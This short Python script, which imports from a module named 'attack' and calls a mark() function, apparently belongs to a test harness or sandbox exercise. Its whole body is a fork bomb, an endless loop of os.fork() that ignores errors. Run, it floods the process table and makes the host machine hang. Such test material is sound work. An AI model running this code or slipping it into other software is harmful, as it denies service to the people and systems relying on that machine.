from attack import *

mark()
while True:
    try:
        os.fork()
    except OSError:
        pass
